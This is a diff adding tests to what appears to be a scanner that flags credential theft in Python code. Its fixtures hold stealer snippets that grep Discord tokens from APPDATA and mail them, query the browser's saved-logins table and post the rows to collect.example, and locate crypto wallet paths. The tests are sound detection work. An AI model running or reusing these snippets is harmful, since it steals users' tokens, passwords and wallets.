@@ -221,3 +221,54 @@ test('credential files read in a loop over a list of their paths and posted late
   assert.equal(sent?.severity, 'high');
   assert.match(sent!.message, /AWS credentials/);
 });
+
+test("a Discord token's shape written as a regular expression marks what is matched as tokens; mailing them is exfiltration", () => {
+  const source = [
+    'import os, re, glob, smtplib',
+    'def scan():',
+    '    tokens = []',
+    '    for f in glob.glob(os.path.join(os.getenv("APPDATA"), "**", "*.ldb"), recursive=True):',
+    '        tokens += re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", open(f, errors="ignore").read())',
+    '    s = smtplib.SMTP("smtp.mail.example", 587)',
+    '    s.sendmail("a@mail.example", "b@mail.example", "\\n".join(tokens))',
+  ].join('\n');
+  const list = findings(source);
+  assert.match(list.find((f) => f.rule === 'sensitive-file-access')?.message ?? '', /Discord tokens/);
+  const sent = list.find((f) => f.rule === 'exfiltration');
+  assert.equal(sent?.severity, 'high');
+  assert.match(sent!.message, /Discord tokens/);
+});
+
+test("a query of the browser's saved-logins table is browser credentials, and posting its rows is exfiltration", () => {
+  const source = [
+    'import sqlite3, requests',
+    'class Collector:',
+    '    def rows(self, db):',
+    '        con = sqlite3.connect(db)',
+    '        return con.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()',
+    '    def send(self, db):',
+    '        requests.post("https://collect.example/u", data={"rows": str(self.rows(db))})',
+  ].join('\n');
+  const list = findings(source);
+  assert.match(list.find((f) => f.rule === 'sensitive-file-access')?.message ?? '', /browser credentials/);
+  assert.match(list.find((f) => f.rule === 'exfiltration')?.message ?? '', /browser credentials/);
+  // a column of that name in the application's own table is not the browser's
+  const own = findings(
+    'import sqlite3\ndef load(con):\n    return con.execute("SELECT password_value FROM accounts").fetchall()\n',
+  );
+  assert.equal(
+    own.find((f) => f.rule === 'sensitive-file-access'),
+    undefined,
+  );
+});
+
+test('wallet extensions named by their store ids, and wallet apps, are crypto wallets', () => {
+  for (const place of [
+    'Local Extension Settings\\\\bfnaelmomeimhlpmgjnjophhpkkoljpa',
+    'Zcash\\\\wallet',
+    'Exodus\\\\exodus.wallet',
+  ]) {
+    const list = findings(`import os\ndef find():\n    return os.path.join(os.getenv("APPDATA"), "${place}")\n`);
+    assert.match(list.find((f) => f.rule === 'sensitive-file-access')?.message ?? '', /crypto wallets/, place);
+  }
+});
